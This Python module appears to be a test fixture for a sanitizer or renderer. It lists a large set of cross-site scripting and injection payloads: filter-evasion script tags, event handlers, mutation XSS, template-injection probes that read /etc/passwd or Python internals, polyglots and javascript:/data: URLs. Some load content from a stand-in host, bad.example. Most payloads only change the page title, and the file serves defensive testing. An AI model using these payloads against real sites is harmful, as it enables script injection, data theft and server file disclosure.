"""What an outlet, or whoever asks, could say to have a page run a script or lose its shape.

The forms are those that lists of such vectors have in common (OWASP's cheat sheet on filter evasion and those by
element and event), written down anew: where a script would run, it gives the document another title.
"""

RAN = "ran"
_RUN = f"document.title='{RAN}'"
_DATA = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZG9jdW1lbnQudGl0bGU9J3Jhbic8L3NjcmlwdD4="

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x0c>{_RUN}</script>",
    f"<script>//\u2028{_RUN}\n</script>",
    "<script src=//bad.example/x.js></script>",
    f"<script src='data:text/javascript,{_RUN}'></script>",
    f"<script type=module>import('data:text/javascript,{_RUN}')</script>",
    f"<script>eval(String.fromCharCode(100))</script><script defer>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
)
EVENTS = (
    f'<img src=x onerror="{_RUN}">',
    f"<img/src/onerror={_RUN}>",
    f"<img src=x:x onerror\x0b={_RUN}>",
    f"<img src=`x`onerror={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributename=x>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{_RUN} />",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}/>#x'></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<video src=x onerror={_RUN} autoplay>",
    f"<audio src=x onerror={_RUN}>",
    f"<object data=x onerror={_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<style onload={_RUN}></style>",
    f"<link rel=stylesheet href=/static/style.css onload={_RUN}>",
    f"<div contenteditable autofocus onfocus={_RUN}>x</div>",
    f"<p style='animation-name:x' onanimationstart={_RUN}>x",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={_RUN}>x</div>",
    f"<xss id=x tabindex=1 onfocus={_RUN}></xss>",
)
FRAMES = (
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f'<iframe src="{_DATA}"></iframe>',
    f"<object data={_DATA}></object>",
    "<embed src=//bad.example/x.svg type=image/svg+xml>",
    "<frameset><frame src=//bad.example></frameset>",
    "<portal src=//bad.example></portal>",
    "<meta http-equiv=refresh content=0;url=//bad.example>",
    "<base href=//bad.example/><base target=_blank>",
    "<form action=//bad.example><button>x</button></form>",
    f"<form><button formaction=javascript:{_RUN}>x</button></form>",
    f"<isindex action=javascript:{_RUN} type=image>",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<a href="jav&#x09;ascript&colon;{_RUN}" id=q>x</a>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
)
BREAKERS = (
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style></script><script>{_RUN}</script>",
    f"</noscript><img src=x onerror={_RUN}>",
    f"</template></select><svg onload={_RUN}>",
    "</p></div></td></tr></table></main></body></html><h1>broken</h1>",
    f"--><img src=x onerror={_RUN}><!--",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"--!><svg/onload={_RUN}>",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    f'"><svg/onload={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"`><svg/onload={_RUN}>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"x onmouseover={_RUN} y",
    f"'-{_RUN}-'",
    f"\\'-{_RUN}//",
    f"</script><svg onload={_RUN}>",
    "<plaintext>",
    "<xmp><textarea><title><listing>",
    "<style>body{display:none}</style>",
    "<style>@import'//bad.example/x.css';*{background:url(//bad.example)}</style>",
    f'<div style="width:expression({_RUN});-moz-binding:url(//bad.example)">x</div>',
    "<input name=form value=x><img name=body><form id=edit></form>",
)
MUTANTS = (
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_RUN} src>">',
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={_RUN}>">',
    f"<table><td background=javascript:{_RUN}><tr><caption><svg><desc><table><svg onload={_RUN}>",
    f"<x><![CDATA[</x><img src=x onerror={_RUN}>]]>",
)
TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>[[7*7]]{7*7}",
    f'{{{{constructor.constructor("{_RUN}")()}}}}',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ config }}{{ self._TemplateReference__context }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}{% include '/etc/passwd' %}{# x",
    f"<div ng-app ng-csp>{{{{$on.constructor('{_RUN}')()}}}}</div><div v-html=\"'<img src onerror={_RUN}>'\"></div>",
    f'<div x-data x-init="{_RUN}" hx-on:load="{_RUN}" data-bind="html:\'<svg onload={_RUN}>\'"></div>',
    "%(title)s {0.__class__} $(id) `id` ; --",
)
ENCODED = (
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\ufeff\x1b$B<script>{_RUN}</script>\x1b(B",
    f"¼script¾{_RUN}¼/script¾",
    f"\u2028\u202e<b>\u0000<scr\u0000ipt>{_RUN}</script>",
    f"<\u200bscript>{_RUN}</\u200bscript><ımg src=x onerror={_RUN}><ſcript>{_RUN}</ſcript>",
    "\x85\x9b\x08\x7f<b>\ufffe\uffff\U0010ffff",
)
POLYGLOTS = (
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{_RUN}//'>",
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
        f"--!>\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e"
    ),
    (
        f'\'">><marquee><img src=x onerror={_RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={_RUN}>'
        f"<script>{_RUN}</script>@mail.example"
    ),
    f"\" onclick={_RUN}//<button ' onclick={_RUN}//> */ {_RUN}//",
    f"';{_RUN}//\\';{_RUN}//\";{_RUN}//--></SCRIPT>\">'><SCRIPT>{_RUN}</SCRIPT>",
)
PAYLOADS = (*SCRIPTS, *EVENTS, *FRAMES, *BREAKERS, *MUTANTS, *TEMPLATES, *ENCODED, *POLYGLOTS)
ADDRESSES = (  # of a page: none of them leads anywhere, or to the script that it names
    f"javascript:{_RUN}//",
    f"JaVaScRiPt:{_RUN}//",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\r\nscript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"java&Tab;script&#x3A;{_RUN}",
    f"javascript://https://plain.example/%0a{_RUN}",
    f"view-source:javascript:{_RUN}",
    f"blob:https://plain.example/{_RUN}",
    "data:text/html,<script>document.title='ran'</script>",
    _DATA,
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//bad.example/%2e%2e",
    "\\\\bad.example\\share",
    f"https:javascript:{_RUN}",
    f'https://bad.example/"onmouseover="{_RUN}',
    f"https://bad.example/'onmouseover='{_RUN}",
    f"https://bad.example/><svg onload={_RUN}>",
    f"http://user:pass@bad.example/?{_RUN}#</a><script>",
)
